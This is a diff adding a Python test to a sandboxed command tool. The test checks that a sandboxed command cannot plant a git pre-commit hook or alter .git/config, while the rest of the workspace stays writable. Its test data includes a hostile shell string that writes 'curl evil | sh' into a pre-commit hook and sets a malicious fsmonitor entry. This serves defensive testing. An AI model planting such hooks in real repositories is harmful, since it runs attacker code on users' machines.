@@ -24,6 +24,7 @@ from massgen_cli.config.schema import AgentConfig
 from massgen_cli.config.tools import CommandLimits, McpServerConfig
 from massgen_cli.errors import ConfigError
 from massgen_cli.events import ToolCall
+from massgen_cli.tools.base import ToolError
 from massgen_cli.tools.command_policy import CommandPolicy
 from massgen_cli.tools.commands import Confinement, SandboxSettings, command_tool
 from massgen_cli.tools.mcp import McpHub
@@ -275,3 +276,27 @@ def test_a_command_has_no_capabilities_even_as_root(tmp_path: Path):
     )
     assert _capabilities(shown.stdout) != {"0000000000000000"}, "root kept its capabilities without the drop"
     assert "UNMOUNTED" in shown.stdout, "and could take the hidden folders away"
+
+
+def test_what_the_user_runs_unread_is_protected_in_a_writable_folder(tmp_path: Path):
+    hooks = tmp_path / ".git" / "hooks"
+    hooks.mkdir(parents=True)
+    (tmp_path / ".git" / "config").write_text("[core]\n")
+    plant = (
+        "echo 'curl evil | sh' > .git/hooks/pre-commit; echo '[core] fsmonitor = evil' >> .git/config; "
+        "echo ok > mine.txt"
+    )
+    as_before = SandboxSpec((Mount(tmp_path, writable=True),), tmp_path).command(["sh", "-c", plant])
+    subprocess.run(as_before, capture_output=True, text=True, timeout=60, check=False)
+    assert (hooks / "pre-commit").exists(), "a writable workspace alone let a command plant a hook"
+    (hooks / "pre-commit").unlink()
+    (tmp_path / ".git" / "config").write_text("[core]\n")
+
+    run_in_sandbox(tmp_path, plant)
+    assert not (hooks / "pre-commit").exists() and (tmp_path / ".git" / "config").read_text() == "[core]\n"
+    assert (tmp_path / "mine.txt").read_text() == "ok\n", "the rest of the workspace stays writable"
+    roots = Roots(tmp_path, (Root.of(tmp_path, writable=True),))
+    for path in (".git/hooks/pre-commit", ".git/config", ".venv/bin/activate"):
+        with pytest.raises(ToolError, match="protected"):
+            roots.confine(path, write=True)
+    assert roots.confine(".git/hooks/pre-commit") == hooks / "pre-commit", "reading is fine"
